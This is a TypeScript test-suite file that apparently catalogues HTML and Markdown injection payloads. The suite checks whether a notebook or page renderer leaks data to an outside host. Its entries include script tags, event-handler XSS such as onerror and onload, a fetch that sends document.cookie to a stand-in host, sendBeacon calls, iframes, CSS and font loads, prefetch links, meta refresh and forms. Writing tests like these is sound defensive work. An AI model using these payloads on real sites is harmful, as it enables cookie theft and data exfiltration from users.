import { cell, idOf, type Attack, type Ears } from "../attack";

/** Markup or Markdown in a text: heard in a page that renders it as others do. */
const text = (
  name: string,
  way: string,
  write: (ears: Ears) => string,
  more: Partial<Attack> = {},
): Attack => ({
  name,
  door: "prose",
  way,
  without: ["own renderer"],
  plant: (ears) => ({ cells: `${write(ears)}\n` }),
  ...more,
});

/** Text that reaches the page by another way than the renderer: heard where text is read as markup. */
const value = (name: string, way: string, write: (ears: Ears) => string): Attack => ({
  ...text(name, way, write),
  without: ["page policy", "text as text"],
});

const script = (name: string, code: string) => `<img alt=${name} src=x onerror="${code}">`;

export default [
  text("prose-picture", "image", ({ http }) => `A picture: ![of orders](${http}/x.png "orders")`),
  text("prose-picture-reference", "image", ({ http }) => `![orders][there]\n\n[there]: ${http}/x.png`),
  text("prose-picture-own", "same origin, with a query", ({ own }) => `![orders](${own})`),
  text("prose-img", "image", ({ http }) => `<img src="${http}/x.png">`),
  text("prose-img-inline", "image", ({ http }) => `Some *text* <img src=${http}/x.png> goes on`),
  text("prose-img-set", "image", ({ http }) => `<img srcset="${http}/x.png 2x, ${http}/y.png 1x">`),
  text(
    "prose-source-set",
    "image",
    ({ http }) => `<picture><source srcset="${http}/x.png"><img src="data:,"></picture>`,
  ),
  text("prose-image-button", "image", ({ http }) => `<input type="image" src="${http}/x.png">`),
  text("prose-poster", "media", ({ http }) => `<video poster="${http}/x.png"></video>`),
  text("prose-audio", "media", ({ http }) => `<audio src="${http}/x.mp3" preload="auto"></audio>`),
  text("prose-track", "media", ({ http }) => `<video src="${http}/x.mp4" autoplay muted></video>`),
  text(
    "prose-svg-image",
    "image",
    ({ http }) => `<svg><image href="${http}/x.png" width="9" height="9"/></svg>`,
  ),
  text(
    "prose-svg-filter",
    "image",
    ({ http }) =>
      `<svg><filter id="f"><feImage href="${http}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  ),
  text(
    "prose-svg-foreign",
    "image",
    ({ http }) => `<svg><foreignObject width="9" height="9"><img src="${http}/x.png"/></foreignObject></svg>`,
  ),
  text("prose-script", "script", ({ http }) => `<script>fetch("${http}/x")</script>`),
  text("prose-script-file", "script", ({ http }) => `<script src="${http}/x.js"></script>`),
  text("prose-script-module", "dynamic import", ({ http }) => `<script>import("${http}/x.js")</script>`),
  text("prose-onerror", "fetch", ({ http }) => script("prose-onerror", `fetch('${http}/x')`)),
  text("prose-onload", "fetch", ({ http }) => `<svg onload="fetch('${http}/x')"></svg>`),
  text(
    "prose-ontoggle",
    "fetch",
    ({ http }) => `<details open ontoggle="fetch('${http}/x')"><summary>a</summary></details>`,
  ),
  text("prose-onfocus", "fetch", ({ http }) => `<input autofocus onfocus="fetch('${http}/x')">`),
  text("prose-beacon", "beacon", ({ http }) =>
    script("prose-beacon", `navigator.sendBeacon('${http}/x','customers')`),
  ),
  text("prose-window", "window", ({ http }) => script("prose-window", `window.open('${http}/x')`)),
  text("prose-cookie", "storage", ({ http }) =>
    script("prose-cookie", `fetch('${http}/'+encodeURIComponent(document.cookie))`),
  ),
  text("prose-frame", "frame", ({ http }) => `<iframe src="${http}/x"></iframe>`),
  text(
    "prose-frame-srcdoc",
    "frame",
    ({ http }) => `<iframe srcdoc="&lt;img src='${http}/x.png'&gt;"></iframe>`,
  ),
  text("prose-object", "frame", ({ http }) => `<object data="${http}/x"></object>`),
  text("prose-embed", "frame", ({ http }) => `<embed src="${http}/x.pdf">`),
  text("prose-style-file", "style", ({ http }) => `<link rel="stylesheet" href="${http}/x.css">`),
  text("prose-style-import", "style", ({ http }) => `<style>@import url("${http}/x.css");</style>`),
  text(
    "prose-style-background",
    "style",
    ({ http }) => `<div style="background: url('${http}/x.png')">orders</div>`,
  ),
  text(
    "prose-style-selector",
    "style",
    ({ http }) => `<style>p { list-style-image: url("${http}/x.png"); display: list-item }</style>\n\norders`,
  ),
  text(
    "prose-font",
    "font",
    ({ http }) =>
      `<style>@font-face { font-family: f; src: url("${http}/x.woff2") } p { font-family: f }</style>\n\norders`,
  ),
  text("prose-prefetch", "prefetch", ({ http }) => `<link rel="prefetch" href="${http}/x">`),
  text("prose-preload", "prefetch", ({ http }) => `<link rel="preload" as="image" href="${http}/x.png">`),
  text("prose-module-preload", "prefetch", ({ http }) => `<link rel="modulepreload" href="${http}/x.js">`),
  text("prose-refresh", "navigation", ({ http }) => `<meta http-equiv="refresh" content="0;url=${http}/x">`),
  text("prose-base", "image", ({ http }) => `<base href="${http}/"><img src="x.png">`),
  text(
    "prose-form",
    "form",
    ({ http }) =>
      `<form action="${http}/x" method="post"><input name="customer" value="zoe"><button>Run prose-form</button></form>`,
    { press: true },
  ),
  text(
    "prose-form-own",
    "form",
    ({ http }) => `<form><button formaction="${http}/x">Run prose-form-own</button></form>`,
    { press: true },
  ),
  text("prose-comment", "image", ({ http }) => `<!-- --!><img src="${http}/x.png"> -->`),
  value("prose-fence", "image", ({ http }) => `\`\`\`html\n<image src="${http}/x.png">\n\`\`\``),
  {
    ...value("prose-value", "image", () => ""),
    plant: ({ http }) => ({
      cells: [
        cell("input", "prose-value", `type: text\nvalue: ${JSON.stringify(`<image src="${http}/x.png">`)}`),
        `The best customer is \${${idOf("prose-value")}}.\n`,
      ].join("\n"),
    }),
  },
] satisfies Attack[];
